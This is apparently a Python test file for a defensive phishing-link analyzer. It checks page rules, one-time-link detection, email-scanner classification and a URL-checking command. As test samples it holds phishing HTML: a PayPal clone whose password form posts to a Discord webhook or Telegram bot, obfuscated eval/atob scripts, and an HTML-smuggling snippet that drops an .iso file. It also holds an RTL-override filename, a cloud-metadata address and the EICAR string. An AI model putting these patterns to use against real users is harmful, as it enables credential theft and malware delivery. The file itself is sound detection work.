"""Page analysis, single-use rules, scanner classification and the check-url CLI contract."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tap_core.click.analyze import ClickAnalysis, ClickAnalyzer
from tap_core.click.fetch import FetchBlocked, FetchedPage, FetchError
from tap_core.click.rules import analyze_html
from tap_core.click.scanner import classify
from tap_core.click.single_use import single_use
from tap_core.model.findings import Verdict

ROOT = Path(__file__).resolve().parents[2]


def _names(html: str, url: str = "https://pages.example.net/x") -> set[str]:
    return {f.name for f in analyze_html(html, url)}


def test_credential_form_to_webhook_and_brand_on_foreign_host() -> None:
    html = (
        "<title>Sign in to PayPal</title><h1>PayPal</h1><form action='https://discord.com/api/webhooks/1/x'>"
        "<label>Password</label><input type=password></form>"
    )
    names = _names(html)
    # Titled and headed PayPal, asking for a password off PayPal's domains: a brand clone.
    assert {"page_password_field", "page_form_exfil_endpoint", "page_brand_clone"} <= names


def test_real_brand_page_on_brand_host_is_quiet() -> None:
    html = (
        "<title>Sign in to PayPal</title><h1>PayPal</h1><form action='https://www.paypal.com/signin'>"
        "<label>Password</label><input type=password></form><a href='/a'>a</a><a href='/b'>b</a><a href='/c'>c</a>"
    )
    assert _names(html, "https://www.paypal.com/signin") == {"page_password_field"}


def test_obfuscation_smuggling_rtl_iframe_and_kit_markers() -> None:
    assert "page_obfuscated_script" in _names("<script>document.write(unescape('%3Cform%3E'))</script>")
    assert "page_obfuscated_script" in _names("<script>eval(atob('YWxlcnQoMSk='))</script>")
    smuggle = (
        "<script>var b=new Blob([d],{type:'application/octet-stream'});var a=document.createElement('a');"
        "a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click()</script>"
    )
    assert "page_html_smuggling" in _names(smuggle)
    assert "page_rtl_override" in _names("<p>invoice\u202efdp.exe</p>")
    assert "page_hidden_iframe" in _names("<iframe src='https://x.example.org/' width=0 height=0></iframe>")
    # The site's own hidden frame (silent sign-in renewal) hides nothing from it.
    for own in ("/auth/silent-renew.html", "https://login.example.net/renew"):
        assert "page_hidden_iframe" not in _names(f"<iframe src='{own}' style='display:none'></iframe>")
    assert "page_kit_marker" in _names("<!-- antibot --><script src='https://api.ipify.org'></script>")
    assert "page_meta_redirect" in _names(
        "<meta http-equiv='refresh' content='0;url=https://next.example.org/'>"
    )


def test_encoded_page_is_decoded_before_the_rules() -> None:
    import base64

    inner = base64.b64encode(
        b"<form action='https://api.telegram.org/bot1/sendMessage'>"
        b"<input type='password'></form>" + b" " * 200
    ).decode()
    names = _names(f"<script>document.write(atob('{inner}'))</script>")
    assert {"page_obfuscated_script", "page_password_field", "page_form_exfil_endpoint"} <= names


@pytest.mark.parametrize(
    "url",
    [
        "https://app.example.com/auth/v1/verify?token=abc&type=magiclink",
        "https://accounts.example.com/reset-password?t=1",
        "https://news.example.com/unsubscribe?u=9",
        "https://outlook.example.com/calendar/item?action=accept",
        "https://x.example.com/email/verify/abc",
        "https://x.example.com/invite/aZ3k9Qx7LmP2vR8tY6wN4bC1",
        "https://x.example.com/approve/123",
    ],
)
def test_single_use_links(url: str) -> None:
    assert single_use(url) is not None


@pytest.mark.parametrize(
    "url",
    [
        "https://www.example.com/",
        "https://en.wikipedia.org/wiki/Cat",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://example.com/login",
    ],
)
def test_ordinary_links_are_not_single_use(url: str) -> None:
    assert single_use(url) is None


def test_scanner_classification() -> None:
    person = {"user-agent": "Mozilla/5.0 Chrome/126", "accept-language": "en"}
    assert not classify("GET", person, issued_at=0, now=1e9).is_scanner
    assert classify("HEAD", person, issued_at=0, now=1e9).signals == ("scanner_head_request",)
    assert (
        "scanner_user_agent"
        in classify(
            "GET", {"user-agent": "Barracuda Sentinel", "accept-language": "en"}, issued_at=0, now=1e9
        ).signals
    )
    assert "scanner_at_delivery" in classify("GET", person, issued_at=1000, now=1001).signals
    assert (
        "scanner_message_burst" in classify("GET", person, issued_at=0, now=1e9, message_burst=True).signals
    )
    assert (
        "scanner_no_accept_language"
        in classify("GET", {"user-agent": "Mozilla/5.0"}, issued_at=0, now=1e9).signals
    )


def test_check_url_cli_contract(site) -> None:  # type: ignore[no-untyped-def]
    env = dict(os.environ, TAP365_SCAN_ALLOW_NETWORKS="127.0.0.0/8,::1/128")
    urls = [site.url("/phish/cli"), site.url("/reset-password?t=1"), "http://169.254.169.254/latest/"]
    out = subprocess.run(
        [sys.executable, "-m", "connectors.click_cli", "check-url", *urls, "--json"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=env,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    lines = [json.loads(line) for line in out.stdout.splitlines()]
    assert [set(x) for x in lines] == [{"url", "verdict", "reasons", "final_url", "fetched"}] * 3
    assert lines[0]["verdict"] == "malicious" and lines[0]["fetched"] is True
    assert lines[1]["fetched"] is False and "single_use_password_reset" in lines[1]["reasons"]
    assert lines[2]["fetched"] is False and "fetch_refused" in lines[2]["reasons"]
    assert "/reset-password?t=1" not in site.hits


class _Fetcher:
    def __init__(self, outcome: object) -> None:
        self.outcome = outcome

    async def fetch(self, url: str, *, stop_before: object = None, language: str | None = None) -> FetchedPage:
        if isinstance(self.outcome, Exception):
            raise self.outcome
        assert isinstance(self.outcome, FetchedPage)
        return self.outcome


def _analyze(outcome: object, url: str = "https://pages.example.net/x") -> ClickAnalysis:
    return asyncio.run(ClickAnalyzer(_Fetcher(outcome)).analyze(url))  # type: ignore[arg-type]


def test_what_analysis_could_not_do_is_informational_rules() -> None:
    refused = _analyze(FetchBlocked("blocked_address", "10.0.0.1"))
    failed = _analyze(FetchError("timeout"))
    page = FetchedPage(
        "https://pages.example.net/x",
        "https://pages.example.net/x",
        200,
        {"content-type": "text/html"},
        b"<p>hello</p>",
        hops=("https://pages.example.net/x",),
        stopped_at="https://pages.example.net/reset-password?t=1",
    )
    stopped = _analyze(page)
    once = single_use("https://x.example.com/invite/aZ3k9Qx7LmP2vR8tY6wN4bC1")
    findings = [refused.findings[-1], failed.findings[-1], stopped.findings[-1], once]
    assert [f.name for f in findings if f] == [
        "fetch_refused",
        "fetch_failed",
        "single_use_redirect_not_followed",
        "single_use_token",
    ]
    for f in findings:
        assert f is not None and (f.group, f.score) == ("click_info", 0.0)
    assert "(timeout)" in failed.findings[-1].reason
    assert refused.error == "blocked_address" and refused.verdict is Verdict.CLEAN
    reset = single_use("https://accounts.example.com/reset-password?t=1")
    assert reset is not None and reset.name == "single_use_password_reset"
    assert reset.reason == "Not fetched before the user: the link looks like a password reset link."


def test_download_analysis_takes_the_files_score_and_verdict() -> None:
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    page = FetchedPage(
        "https://files.example.net/a.com",
        "https://files.example.net/a.com",
        200,
        {"content-type": "application/octet-stream", "content-disposition": 'attachment; filename="a.com"'},
        eicar,
    )
    analysis = _analyze(page, page.url)
    download = next(f for f in analysis.findings if f.name == "download_analysis")
    assert download.group == "download" and download.verdict is Verdict.MALICIOUS
    assert download.score > 0 and download.reason.startswith(
        "Static analysis of the downloaded file: malicious"
    )
    assert analysis.verdict is Verdict.MALICIOUS and analysis.reach


def test_smuggling_a_file_that_runs_code_decides_alone_an_export_does_not() -> None:
    script = (
        "<script>var b=new Blob([d],{type:'application/octet-stream'});var a=document.createElement('a');"
        "a.href=URL.createObjectURL(b);a.download='%s';a.click()</script>"
    )
    iso = [f for f in analyze_html(script % "Invoice_0392.iso", "https://x.example.org/") if f.name == "page_html_smuggling"]
    assert iso and iso[0].verdict is Verdict.MALICIOUS and iso[0].variant == "dangerous"
    csv = [f for f in analyze_html(script % "report.csv", "https://x.example.org/") if f.name == "page_html_smuggling"]
    assert csv and csv[0].verdict is None
